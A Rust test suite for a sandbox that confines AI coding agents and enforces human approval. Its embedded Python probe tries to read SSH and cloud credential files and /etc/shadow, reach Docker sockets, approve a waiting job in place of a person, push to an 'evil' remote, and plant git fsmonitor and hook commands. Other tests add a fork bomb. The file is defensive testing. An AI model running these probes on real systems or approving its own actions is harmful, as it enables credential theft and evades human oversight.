//! The wall around agents, attacked from inside and looked at from outside.

use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;

use serde_json::{Value, json};

use super::desk::{Desk, EASY, call, ended, git, refused, run, until, wait};
use crate::conversation::Conversation;

/// Tries all it is told of and writes down what worked.
const PROBE: &str = r#"
import ctypes, json, os, socket, subprocess, sys
told = json.load(open("told.json"))
leaks = []

def attempt(name, deed):
    try:
        result = deed()
    except Exception:
        return
    leaks.append(f"{name}: {result!r}"[:200])

def fails(words, **more):
    done = subprocess.run(words, capture_output=True, timeout=60, **more)
    if done.returncode == 0:
        leaks.append(f"{words}: {done.stdout[-200:]!r}")

for path in told["secrets"]:
    attempt(f"read {path}", lambda: open(path, "rb").read(10) if not os.path.isdir(path) else os.listdir(path))
for path in told["outside"]:
    # Folders on the way to the worktree are its own copies; the test looks at the real ones after.
    for reach in (lambda: open(path, "a").write("x"), lambda: os.mkdir(path + ".d")):
        try:
            reach()
        except OSError:
            pass
for path in told["sockets"]:
    def reach():
        it = socket.socket(socket.AF_UNIX)
        it.connect(path)
    attempt(f"reach {path}", reach)
attempt("loopback", lambda: socket.create_connection(("127.0.0.1", told["port"]), 2))
attempt("a number", lambda: socket.create_connection(("1.1.1.1", 443), 2))
attempt("a name", lambda: socket.getaddrinfo("example.org", 443))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
attempt("packets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
libc = ctypes.CDLL(None, use_errno=True)
for name, words in {
    "io_uring": (425, 8, ctypes.create_string_buffer(200)), "ptrace": (101, 0, 0, 0, 0),
    "io_uring by the other ABI": (425 | 0x40000000, 8, ctypes.create_string_buffer(200)),
    "user namespace": (272, 0x10000000), "mount namespace": (272, 0x00020000), "bpf": (321, 0, 0, 0),
    "keys": (250, 0, -3, 1), "another's memory": (310, 1, 0, 0, 0, 0, 0),
}.items() if os.uname().machine == "x86_64" else ():
    if libc.syscall(*words) >= 0:
        leaks.append(name)
open_files = sorted(int(fd) for fd in os.listdir("/proc/self/fd"))
if open_files[:3] != [0, 1, 2] or len(open_files) > 4:
    leaks.append(f"descriptors: {open_files}")
leaks += [f"variable {name}" for name in os.environ if "SECRET" in name or "TOKEN" in name]
for pid in filter(str.isdigit, os.listdir("/proc")):
    words = open(f"/proc/{pid}/cmdline").read()
    if "serve" in words or "job-process\0keep" in words:
        leaks.append(f"process {words!r}")
for root, folders, files in os.walk("/run"):
    leaks += [f"{root}/{name}" for name in files if root != "/run/ensemble/bin" and (root, name) != ("/run/ensemble", "house") and not root.startswith("/run/ensemble/objects")]
program = told["program"]
for words in (
    [program, "call", "approve_job", json.dumps({"job_id": told["waits"]}), "--data", told["data"]],
    [program, "approvals", "--root", told["root"]],
):
    subprocess.run(words, input=b"y\n", capture_output=True, timeout=60)
house = "/run/ensemble/house"
for asker in ("push", "network", "connected"):
    it = socket.socket(socket.AF_UNIX)
    it.connect(house)
    question = {"job_id": "x", "token": "", "asker": asker, "tool": "git-push", "tool_use_id": "", "input": {"push": "", "references": []}}
    it.sendall(json.dumps(question).encode() + b"\n")
    answer = it.makefile().readline()
    if "allow" in answer:
        leaks.append(f"{asker}: {answer}")
fails(["git", "push", "-q", told["remote"] + "/../other.git", "HEAD:refs/heads/evil"])
fails(["git", "push", "-q", "https://example.org/evil.git", "HEAD:refs/heads/evil"])
fails(["git", "config", "--file", ".git", "core.fsmonitor", "touch x"])
attempt("the worktree's link", lambda: os.rename(".git", "moved"))
subprocess.run(["git", "config", "core.fsmonitor", "touch " + told["mark"]])
subprocess.run(["git", "config", "core.hooksPath", "hooks"])
json.dump(leaks, open("leaks.json", "w"))
"#;

fn secrets(desk: &Desk) -> Vec<String> {
    for name in [".ssh/id_ed25519", ".aws/credentials", ".netrc", ".git-credentials", ".npmrc"] {
        desk.home.write(name, "secret");
    }
    for name in [".config/gh/hosts.yml", ".docker/config.json", ".claude/.credentials.json"] {
        desk.home.write(name, "secret");
    }
    let home = desk.home.path("");
    let mut all: Vec<String> = Vec::new();
    for name in [
        ".ssh",
        ".ssh/id_ed25519",
        ".aws/credentials",
        ".netrc",
        ".git-credentials",
        ".npmrc",
        ".config/gh/hosts.yml",
        ".docker/config.json",
        ".claude/.credentials.json",
        ".gitconfig",
        "remotes/api.git/HEAD",
        "projects/api/README.md",
        "projects/.televibe/config.yaml",
        "projects/.televibe/token",
        "projects/.televibe/gate.key",
        "projects/.televibe/lock",
        "projects/.televibe/ensemble.db",
        "projects/.televibe/state.db",
        "projects/.televibe/logs",
        "projects/.televibe/sessions",
        "projects/.televibe/remotes",
        "projects/.televibe/workspaces/api/S2",
        "projects/.televibe/workspaces/api/S2/second/README.md",
    ] {
        all.push(home.join(name).to_string_lossy().into_owned());
    }
    all.extend(["/etc/shadow", "/etc/ssh", "/var/log", "/sys/kernel"].map(str::to_owned));
    all
}

#[test]
fn a_red_team_behind_the_wall_reads_no_secret_reaches_no_socket_and_approves_nothing() {
    let desk = Desk::new(EASY);
    let mut command = desk.command();
    command.env("SECRET_OF_THE_OWNER", "x").env("GH_TOKEN", "x");
    let mut talk = Conversation::with(command);
    talk.open("2025-06-18");
    call(&mut talk, "register_project", &json!({ "path": desk.root().join("api") }));
    call(&mut talk, "create_session", &json!({ "project_id": "api", "branch": "work" }));
    call(&mut talk, "create_session", &json!({ "project_id": "api", "branch": "second" }));
    let other = json!({ "session_id": "S2", "instruction": "run git push -q origin second" });
    let other = call(&mut talk, "run_instruction", &other)["job"]["job_id"].clone();
    wait(&mut talk, other.as_str().unwrap(), &["waiting_approval"]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let data = fs::canonicalize(desk.root()).unwrap().join(".televibe");
    let outside =
        ["projects/api/new.txt", "new.txt", ".bashrc", "projects/api/.git/hooks/post-checkout"];
    let told = json!({
        "secrets": secrets(&desk),
        "outside": outside.map(|name| desk.home.path(name)).to_vec(),
        "sockets": [data.join("gate/socket"), data.join("socket"), "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"],
        "port": listener.local_addr().unwrap().port(),
        "program": env!("CARGO_BIN_EXE_ensemble"),
        "waits": other, "data": data, "root": desk.root(), "remote": desk.remote("api"), "mark": desk.home.path("pwned"),
    });
    fs::write(desk.worktree().join("told.json"), told.to_string()).unwrap();
    fs::write(desk.worktree().join("probe.py"), PROBE).unwrap();
    let job = run(&mut talk, "run python3 probe.py");
    let done = ended(&mut talk, &job);
    let logs = call(&mut talk, "get_job_logs", &json!({ "job_id": job }));
    assert_eq!(done["status"], "done", "{done}: {logs}");
    let leaks = fs::read_to_string(desk.worktree().join("leaks.json")).unwrap();
    assert_eq!(leaks, "[]");
    for name in outside {
        assert!(!desk.home.path(name).exists(), "{name}");
        assert!(!desk.home.path(&format!("{name}.d")).exists(), "{name}.d");
    }
    let waits = call(&mut talk, "get_job", &json!({ "job_id": other }));
    assert_eq!(waits["job"]["status"], "waiting_approval", "an agent answered for a person");
    assert!(git(&desk.remote("api"), &["for-each-ref", "refs/heads/second"]).is_empty());
    call(&mut talk, "get_session_diff", &json!({ "session_id": "S1" }));
    assert!(!desk.home.path("pwned").exists(), "the house's git ran what an agent configured");
    assert_eq!(talk.end(), 0);
}

#[test]
fn commits_come_back_to_the_branch_and_what_else_an_agent_made_is_kept_beside_it() {
    let desk = Desk::new(EASY);
    let mut talk = desk.session();
    let job = run(
        &mut talk,
        "write a.txt one\nrun git add a.txt && git commit -qm one\nrun git branch idea\n\
         run git tag mine\nwrite staged.txt s\nrun git add staged.txt\nwrite loose.txt l",
    );
    assert_eq!(ended(&mut talk, &job)["status"], "done");
    let (tree, api) = (desk.worktree(), desk.root().join("api"));
    assert_eq!(git(&api, &["log", "--format=%an %s", "-1", "work"]), "Agent one");
    assert_eq!(git(&tree, &["status", "--porcelain"]), "A  staged.txt\n?? loose.txt");
    assert!(git(&api, &["branch", "--list", "idea"]).is_empty(), "other branches are the owner's");
    let tip = git(&api, &["rev-parse", "work"]);
    for name in ["heads/idea", "tags/mine"] {
        let kept = format!("refs/televibe/session/S1/{name}");
        assert_eq!(git(&api, &["rev-parse", &kept]), tip);
    }
    // The next job finds what the owner did meanwhile, and its own branch again.
    git(&tree, &["commit", "--quiet", "--message", "by the owner"]);
    let job =
        run(&mut talk, "run git log --format=%s -1 > last.txt && git rev-parse idea > idea.txt");
    assert_eq!(ended(&mut talk, &job)["status"], "done");
    assert_eq!(fs::read_to_string(tree.join("last.txt")).unwrap(), "by the owner\n");
    assert_eq!(fs::read_to_string(tree.join("idea.txt")).unwrap().trim(), tip);
    git(&api, &["fsck", "--strict"]);
}

#[test]
fn commits_of_an_agent_that_left_its_branch_are_not_lost() {
    let desk = Desk::new(EASY);
    let mut talk = desk.session();
    let job = run(
        &mut talk,
        "run git checkout -q --detach && git commit -q --allow-empty -m alone && git rev-parse HEAD > id.txt",
    );
    assert_eq!(ended(&mut talk, &job)["status"], "done");
    let id = fs::read_to_string(desk.worktree().join("id.txt")).unwrap();
    let kept = git(&desk.root().join("api"), &["rev-parse", "refs/televibe/session/S1/HEAD"]);
    assert_eq!(kept, id.trim());
    let next = run(&mut talk, "run git commit -q --allow-empty -m again");
    assert_eq!(ended(&mut talk, &next)["status"], "done", "the session is on its branch again");
}

#[test]
fn the_house_runs_nothing_that_a_repository_configures() {
    let desk = Desk::new(EASY);
    let api = desk.root().join("api");
    let mark = desk.home.path("pwned");
    let touch = format!("touch {}", mark.display());
    for (key, value) in [
        ("core.fsmonitor", touch.as_str()),
        ("filter.evil.clean", &touch),
        ("filter.evil.smudge", &touch),
        ("diff.external", &touch),
        ("diff.evil.textconv", &touch),
        ("core.sshCommand", &touch),
        ("gpg.program", &touch),
        ("commit.gpgSign", "true"),
    ] {
        git(&api, &["-c", "core.fsmonitor=false", "config", key, value]);
    }
    for hook in ["post-checkout", "reference-transaction", "post-index-change"] {
        let path = api.join(".git/hooks").join(hook);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, format!("#!/bin/sh\n{touch}\n")).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    }
    fs::write(api.join(".gitattributes"), "* filter=evil diff=evil\n").unwrap();
    let blob = [
        "-c",
        "core.hooksPath=/dev/null",
        "-c",
        "core.fsmonitor=false",
        "-c",
        "filter.evil.clean=cat",
    ];
    git(&api, &[&blob[..], &["add", ".gitattributes"]].concat());
    let commit = ["-c", "commit.gpgSign=false", "commit", "--quiet", "--message", "attributes"];
    git(&api, &[&blob[..], &commit[..]].concat());
    fs::remove_file(&mark).ok();
    let mut talk = desk.session();
    assert!(!mark.exists(), "making a session ran it");
    // A repository inside the worktree, with traps of its own, made by the agent.
    let nested = format!(
        "write a.txt one\nrun git init -q nested && git -C nested -c user.name=x -c user.email=x commit -q --allow-empty -m x && \
         git -C nested config core.fsmonitor '{touch}'\nrun git add a.txt nested; git commit -qm one; true"
    );
    let job = run(&mut talk, &nested);
    ended(&mut talk, &job);
    call(&mut talk, "get_session_diff", &json!({ "session_id": "S1" }));
    call(&mut talk, "forecast_conflicts", &json!({ "session_id": "S1" }));
    call(&mut talk, "close_session", &json!({ "session_id": "S1", "force": true }));
    assert!(!mark.exists());
}

#[test]
fn without_the_means_for_a_wall_nothing_starts_and_the_cure_is_named() {
    let desk = Desk::new(&format!("sandbox:\n  bubblewrap: /no/such/bwrap\n{EASY}"));
    let mut talk = desk.talk();
    call(&mut talk, "register_project", &json!({ "path": desk.root().join("api") }));
    let asked = json!({ "project_id": "api", "branch": "work" });
    assert_eq!(refused(&mut talk, "create_session", &asked), "SANDBOX_UNAVAILABLE");
    assert_eq!(talk.end(), 0);
    desk.home.write("projects/.televibe/config.yaml", EASY);
    let mut talk = desk.talk();
    call(&mut talk, "create_session", &asked);
    assert_eq!(talk.end(), 0);
    let broken = format!("sandbox:\n  bubblewrap: /bin/false\n{EASY}");
    desk.home.write("projects/.televibe/config.yaml", &broken);
    talk = desk.talk();
    let job = run(&mut talk, "write a.txt x");
    let done = ended(&mut talk, &job);
    assert_eq!(done["status"], "failed", "{done}");
    assert!(done["error"].as_str().unwrap().contains("cannot be confined"), "{done}");
    assert!(!desk.worktree().join("a.txt").exists());
}

#[test]
fn no_sandbox_is_a_choice_that_every_question_repeats() {
    let desk = Desk::new(&format!("sandbox:\n  kind: none\n{EASY}"));
    let mut talk = desk.session();
    let job = run(&mut talk, "run touch made.txt");
    wait(&mut talk, &job, &["waiting_approval"]);
    let asked = call(&mut talk, "list_pending_approvals", &json!({}))["pending"][0].clone();
    assert_eq!(asked["sandbox"], "none");
    let means = asked["meaning"][0]["does"][0].as_str().unwrap();
    assert!(means.contains("anything you can do"), "{means}");
    call(&mut talk, "approve_job", &json!({ "job_id": job, "scope": "job" }));
    assert_eq!(ended(&mut talk, &job)["status"], "done");
    let listed = call(&mut talk, "list_pending_approvals", &json!({}));
    assert_eq!(listed["pending"], json!([]));
}

#[test]
fn the_network_is_a_list_that_a_person_adds_to() {
    let served = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = served.local_addr().unwrap().port();
    std::thread::spawn(move || {
        use std::io::{Read, Write};
        for stream in served.incoming() {
            let mut stream = stream.unwrap();
            let mut head = [0; 4096];
            let count = stream.read(&mut head).unwrap();
            let line = String::from_utf8_lossy(&head[..count]).lines().next().unwrap().to_owned();
            let body = format!("got {line}");
            let head = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n", body.len());
            stream.write_all(format!("{head}{body}").as_bytes()).unwrap();
        }
    });
    let fetch = format!(
        "run python3 -c \"import urllib.request as u; print(u.urlopen('http://127.0.0.1:{port}/x').read().decode())\" > got.txt"
    );
    let desk = Desk::new(&format!("sandbox:\n  hosts: [\"127.0.0.1:{port}\"]\n{EASY}"));
    let mut talk = desk.session();
    let job = run(&mut talk, &fetch);
    let done = ended(&mut talk, &job);
    assert_eq!(done["status"], "done", "{done}");
    assert_eq!(
        fs::read_to_string(desk.worktree().join("got.txt")).unwrap(),
        "got GET /x HTTP/1.1\n"
    );
    assert_eq!(talk.end(), 0);
    let patient = EASY.replace("wait_seconds: 0", "wait_seconds: 600");
    desk.home.write("projects/.televibe/config.yaml", &patient);
    let mut talk = desk.talk();
    let job = run(&mut talk, &fetch);
    wait(&mut talk, &job, &["waiting_approval"]);
    let asked = call(&mut talk, "list_pending_approvals", &json!({}))["pending"][0].clone();
    assert_eq!(asked["command"], format!("connect 127.0.0.1:{port}"));
    assert_eq!(asked["approval_scope"], "network");
    call(&mut talk, "approve_job", &json!({ "job_id": job }));
    assert_eq!(ended(&mut talk, &job)["status"], "done");
    let job = run(&mut talk, &fetch);
    wait(&mut talk, &job, &["waiting_approval"]);
    call(&mut talk, "deny_job", &json!({ "job_id": job, "feedback": "not there" }));
    assert_eq!(ended(&mut talk, &job)["status"], "failed");
}

#[test]
fn a_ref_that_moved_while_a_push_waited_is_left_alone() {
    let desk = Desk::new(&EASY.replace("wait_seconds: 0", "wait_seconds: 600"));
    let mut talk = desk.session();
    let job =
        run(&mut talk, "run git commit -q --allow-empty -m ours\nrun git push origin work:main");
    wait(&mut talk, &job, &["waiting_approval"]);
    let asked = call(&mut talk, "list_pending_approvals", &json!({}))["pending"][0].clone();
    assert_eq!(asked["push"]["refs"][0]["kind"], "fast_forward", "{asked}");
    let api = desk.root().join("api");
    git(&api, &["commit", "--quiet", "--allow-empty", "--message", "theirs"]);
    git(&api, &["push", "--quiet", "origin", "main"]);
    call(&mut talk, "approve_job", &json!({ "job_id": job }));
    assert_eq!(ended(&mut talk, &job)["status"], "failed");
    assert_eq!(git(&desk.remote("api"), &["log", "-1", "--format=%s", "main"]), "theirs");
}

#[test]
fn force_delete_and_tags_are_told_apart_by_refs() {
    let desk = Desk::new(&EASY.replace("wait_seconds: 0", "wait_seconds: 600"));
    let remote = desk.remote("api");
    git(&desk.root().join("api"), &["push", "--quiet", "origin", "main:doomed"]);
    let mut talk = desk.session();
    for (push, kind, scope) in [
        ("git tag v1 && git push origin v1", "create", "push"),
        (
            "git commit -q --amend -m other --allow-empty && git push --no-verify --force origin work:main",
            "force",
            "force_push",
        ),
        ("git push origin :doomed", "delete", "force_push"),
        ("git push origin --mirror", "create", "push"),
    ] {
        let job = run(&mut talk, &format!("run {push}"));
        wait(&mut talk, &job, &["waiting_approval"]);
        let asked = call(&mut talk, "list_pending_approvals", &json!({}))["pending"][0].clone();
        let kinds: Vec<&Value> =
            asked["push"]["refs"].as_array().unwrap().iter().map(|it| &it["kind"]).collect();
        if push.contains("mirror") {
            assert!(kinds.len() > 1, "{asked}");
        } else {
            assert_eq!(
                (kinds, &asked["approval_scope"]),
                (vec![&json!(kind)], &json!(scope)),
                "{push}"
            );
        }
        call(&mut talk, "deny_job", &json!({ "job_id": job }));
        ended(&mut talk, &job);
    }
    let refs = git(&remote, &["for-each-ref", "--format=%(refname)"]);
    assert_eq!(refs, "refs/heads/doomed\nrefs/heads/main");
}

#[test]
fn a_job_that_forks_forever_ends_at_its_limit() {
    let desk = Desk::new(&format!("sandbox:\n  processes: 64\n{EASY}"));
    let mut talk = desk.session();
    let bomb = "import os, time\nfor _ in range(200):\n  try:\n    if os.fork() == 0:\n      time.sleep(600)\n  except OSError:\n    break\ntime.sleep(600)\n";
    fs::write(desk.worktree().join("bomb.py"), bomb).unwrap();
    let job = run(&mut talk, "run python3 bomb.py\nsleep 600");
    assert_eq!(ended(&mut talk, &job)["status"], "failed");
    let logs = call(&mut talk, "get_job_logs", &json!({ "job_id": job }));
    assert!(logs["content"].as_str().unwrap().contains("more than 64 processes"), "{logs}");
    until("nothing of it is left", || super::desk::marked(&job) == 0);
}

#[test]
fn the_folder_of_the_house_is_for_its_owner_alone() {
    let desk = Desk::new(EASY);
    let mut talk = desk.session();
    let job = run(&mut talk, "say hello");
    ended(&mut talk, &job);
    let folder = desk.root().join(".televibe");
    let mode = |path: std::path::PathBuf| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(folder.clone()), 0o700);
    assert_eq!(mode(folder.join(format!("jobs/{job}/order.json"))), 0o600);
    let order = fs::read_to_string(folder.join(format!("jobs/{job}/order.json"))).unwrap();
    let order: Value = serde_json::from_str(&order).unwrap();
    assert!(order["set"]["TELEVIBE_GATE_TOKEN"].is_null(), "no token goes behind the wall");
}
